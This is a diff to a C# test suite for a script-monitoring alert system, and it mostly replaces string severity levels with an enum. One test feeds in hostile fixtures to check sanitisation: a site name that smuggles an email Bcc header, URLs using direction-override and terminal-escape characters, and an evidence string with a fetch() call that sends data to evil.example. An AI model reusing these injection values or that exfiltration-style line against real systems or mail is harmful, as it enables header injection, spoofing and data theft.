@@ -69,7 +69,7 @@ public sealed class AlertRaiserTests : IDisposable
         var alert = Assert.Single(await RaiseAsync(_data.Crawl, [second]));
 
         Assert.Equal("v[.]example changed 2 scripts on Tea & Things", alert.Title);
-        Assert.Equal("medium", alert.Severity);
+        Assert.Equal(Severity.Medium, alert.Severity);
         Assert.Single(_data.Deliveries());
     }
 
@@ -95,7 +95,7 @@ public sealed class AlertRaiserTests : IDisposable
 
         var alert = Assert.Single(await RaiseVerdictsAsync(script));
         Assert.Equal(AlertEvents.MaliciousScript, alert.Event);
-        Assert.Equal("critical", alert.Severity);
+        Assert.Equal(Severity.Critical, alert.Severity);
         Assert.Equal(baseline.Id, alert.CrawlId);
     }
 
@@ -186,7 +186,7 @@ public sealed class AlertRaiserTests : IDisposable
     public async Task A_finding_and_a_verdict_about_one_vendor_in_one_crawl_are_one_alert()
     {
         var script = _data.AddScript("https://evil.example/x.js", VerdictKind.Malicious);
-        await RaiseFindingsAsync(NewFinding(script, "critical"));
+        await RaiseFindingsAsync(NewFinding(script, Severity.Critical));
 
         var alert = Assert.Single(await RaiseVerdictsAsync(script));
 
@@ -210,11 +210,11 @@ public sealed class AlertRaiserTests : IDisposable
     public async Task Only_new_and_serious_findings_are_told()
     {
         var script = _data.AddScript("https://evil.example/x.js");
-        var old = NewFinding(script, "critical");
+        var old = NewFinding(script, Severity.Critical);
         old.LastSeenAt += TimeSpan.FromHours(1);
 
-        Assert.Empty(await RaiseFindingsAsync(old, NewFinding(script, "medium")));
-        Assert.Single(await RaiseFindingsAsync(NewFinding(script, "high")));
+        Assert.Empty(await RaiseFindingsAsync(old, NewFinding(script, Severity.Medium)));
+        Assert.Single(await RaiseFindingsAsync(NewFinding(script, Severity.High)));
     }
 
     [Fact]
@@ -222,7 +222,7 @@ public sealed class AlertRaiserTests : IDisposable
     {
         _data.Site.Name = "Tea\r\nBcc: all@evil.example \u202E";
         var script = _data.AddScript("https://evil.example/\u202Egnp.js\u001b[31m", VerdictKind.Malicious);
-        var finding = NewFinding(script, "critical");
+        var finding = NewFinding(script, Severity.Critical);
         finding.Evidence = "fetch('https://evil.example/?c=' + \u001b]8;;http://evil.example\u0007)";
 
         await RaiseFindingsAsync(finding);
@@ -310,7 +310,7 @@ public sealed class AlertRaiserTests : IDisposable
         await database.SaveChangesAsync(TestContext.Current.CancellationToken);
     }
 
-    private SiteFinding NewFinding(Script script, string severity) => new()
+    private SiteFinding NewFinding(Script script, Severity severity) => new()
     {
         SiteId = _data.Site.Id,
         Id = RowId.Next(_time),
